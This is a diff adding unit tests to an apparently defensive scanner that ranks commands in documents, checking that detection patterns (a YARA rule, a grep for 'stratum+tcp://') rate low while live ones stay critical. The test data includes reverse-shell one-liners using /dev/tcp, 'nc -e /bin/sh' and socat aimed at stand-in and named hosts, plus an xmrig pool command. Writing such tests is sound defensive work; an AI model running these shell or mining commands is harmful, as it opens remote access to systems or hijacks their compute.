@@ -95,3 +95,43 @@ describe('disk commands: what they do, and what the document checked first', () 
     expect(strongest(skill(body), 'destr-overwrite-device')).toBe('critical')
   })
 })
+
+describe('patterns, not commands: what a detection looks for', () => {
+  it.each([
+    ['a YARA string', fence('yara', 'rule miner {\n  strings:\n    $a = "stratum+tcp://" ascii\n  condition:\n    $a\n}')],
+    ['a grep for it', fence('bash', 'grep -rl "stratum+tcp://" /etc /opt 2>/dev/null')],
+    ['an indicator in prose', 'Config strings such as `stratum+tcp://`, `"randomx"`.'],
+  ])('the bare mining scheme in %s is listed, not refused', (_label, body) => {
+    expect(RANK[strongest(skill(body), 'mine-stratum') ?? 'critical']).toBeLessThanOrEqual(RANK.medium)
+    expect(verdict(skill(body))).toBe('safe')
+  })
+
+  it.each([
+    ['a pool URL', 'xmrig -o stratum+tcp://pool.minexmr.example.org:4444 -u WALLET'],
+    ['the scheme joined to a variable', 'URL="stratum+tcp://"$POOL'],
+    ['the scheme concatenated', 'url = "stratum+tcp://" + pool_host'],
+    ['the scheme beside a string that continues it', 'url = "stratum+tcp://" "gpu.warmpool.net:3333"'],
+    ['a bare scheme and a pool on one line', 'strings: "stratum+tcp://" and "stratum+tcp://gpu.warmpool.net:3333"'],
+  ])('a pool that can be reached (%s) stays critical', (_label, line) => {
+    expect(strongest(skill(fence('bash', line)), 'mine-stratum')).toBe('critical')
+  })
+
+  it.each([
+    ['/dev/tcp with HOST and PORT', '- `bash -i >& /dev/tcp/HOST/PORT 0>&1`', 'net-reverse-shell-devtcp'],
+    ['nc with HOST PORT', '- `nc -e /bin/sh HOST PORT`', 'net-shell-over-socket'],
+    ['socat to HOST:PORT', "- `socat exec:'bash -li',pty tcp:HOST:PORT`", 'net-shell-over-socket'],
+    ['a detection sample aimed at ATTACKER', fence('text', 'bash -i >& /dev/tcp/ATTACKER/4444 0>&1'), 'net-reverse-shell-devtcp'],
+  ])('a reverse shell whose peer is a capitalised stand-in (%s) is listed', (_label, body, rule) => {
+    expect(strongest(skill(body), rule)).toBe('medium')
+  })
+
+  it.each([
+    ['a one-word host', 'bash -i >& /dev/tcp/c2box/4444 0>&1', 'net-reverse-shell-devtcp'],
+    ['a one-word host and a stand-in word in a comment', 'bash -i >& /dev/tcp/c2box/4444 0>&1 # HOST', 'net-reverse-shell-devtcp'],
+    ['a stand-in and a live peer on one line', 'bash -i >& /dev/tcp/HOST/PORT 0>&1; bash -i >& /dev/tcp/c2box/4444 0>&1', 'net-reverse-shell-devtcp'],
+    ['a lower-case host (a name a network may resolve)', 'nc -e /bin/sh host 4444', 'net-shell-over-socket'],
+    ['a real host', 'nc -e /bin/sh relay.shellbox.net 4444', 'net-shell-over-socket'],
+  ])('a shell that can reach someone (%s) stays critical', (_label, line, rule) => {
+    expect(strongest(skill(fence('bash', line)), rule)).toBe('critical')
+  })
+})
